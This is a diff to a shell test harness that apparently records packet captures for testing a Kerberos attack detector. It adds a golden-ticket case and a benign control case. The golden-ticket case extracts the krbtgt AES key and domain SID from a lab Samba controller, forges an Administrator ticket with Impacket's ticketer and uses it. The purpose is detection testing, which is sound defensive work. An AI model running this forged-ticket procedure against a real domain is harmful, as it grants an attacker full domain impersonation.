@@ -268,4 +268,64 @@ record_relay_http() {
     finish
 }
 
+# stretched_to_a_day: the pauses of five seconds and more become half a day.
+stretched_to_a_day() {
+    capture_stop
+    mv "$PCAP" "$WORK/live.pcap"
+    programs python3-scapy
+    echo "$ reshape.py stretch 4 9000 live.pcap input.pcap" >>"$WORK/commands"
+    "$PYTHON" "$RECORD_DIR/reshape.py" stretch "$WORK/live.pcap" "$PCAP" 4 9000 2>>"$WORK/output" || fail "$CASE: not stretched (see $WORK/output)"
+    note "Nobody waited half a day: record/reshape.py made pauses of five seconds and more 9000 times as long."
+}
+
+# three_logons HOST: so that a sensor knows that it sees this host's logons.
+three_logons() {
+    local user
+    for user in anna bert carla; do
+        as_user "$1" $user
+    done
+}
+
+record_variant_ticket_ungiven() {
+    begin variant-ticket-ungiven variant "An attacker who has the AES key of the krbtgt account forges a ticket in the name of a user who did not log on (Impacket's ticketer) and uses it, half a day after ordinary logons from the same host. Nothing but the missing logon tells it from a real one; this controller refuses it all the same, for what new tickets hold besides."
+    ward_domain
+    domain_samba_tool user setpassword krbtgt --newpassword=Ward-Krbtgt-7 # so that the key has number 2, as ticketer says
+    domain_start
+    domain_client desk
+    local key sid
+    in_host dc samba-tool domain exportkeytab "$WORK/keytab" --principal=krbtgt/$REALM -s "$DC_HOME/etc/smb.conf" >>"$WORK/output" 2>&1
+    key=$(klist -K -e -k -t "$WORK/keytab" | sed -n 's/.*aes256.*(0x\([0-9a-f]*\)).*/\1/p' | head -1)
+    in_host dc samba-tool user getpassword krbtgt --attributes=objectSid -s "$DC_HOME/etc/smb.conf" >"$WORK/krbtgt" 2>>"$WORK/output" || true
+    sid=$(sed -n 's/^objectSid: //p' "$WORK/krbtgt" | sed 's/-502$//')
+    [[ -n $key && -n $sid ]] || fail "$CASE: no key of krbtgt (see $WORK/output)"
+    impacket ticketer
+    local ticketer=$IMPACKET
+    capture clients
+    three_logons desk
+    sleep 10.5
+    shell desk "cd $WORK && $PYTHON $ticketer -aesKey $key -domain-sid $sid -domain $DOMAIN -user-id 500 Administrator"
+    shell desk "KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/Administrator.ccache kvno cifs/dc1.$DOMAIN"
+    stretched_to_a_day
+    expect "{technique: T1558.001, actor: $USER_HOST, kind: ticket without a logon, target: $DC}"
+    contains "kerberos.msg_type == 12" -ge 1
+    finish
+}
+
+record_variant_kerberos_day() {
+    begin variant-kerberos-day variant "Three users log on at a workstation; half a day later one of them logs on again and uses a share, and the ticket of another is renewed."
+    ward_domain
+    domain_start
+    domain_client desk
+    capture clients
+    three_logons desk
+    sleep 10.5
+    as_user desk anna
+    in_domain desk smbclient -s "$WORK/client-desk/smb.conf" --use-kerberos=required -U anna //dc1.$DOMAIN/records -c ls
+    shell desk "KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/ccache-desk kinit -R; true"
+    stretched_to_a_day
+    near_miss identity.forged_ticket
+    contains "kerberos.msg_type == 12" -ge 1
+    finish
+}
+
 main "$@"
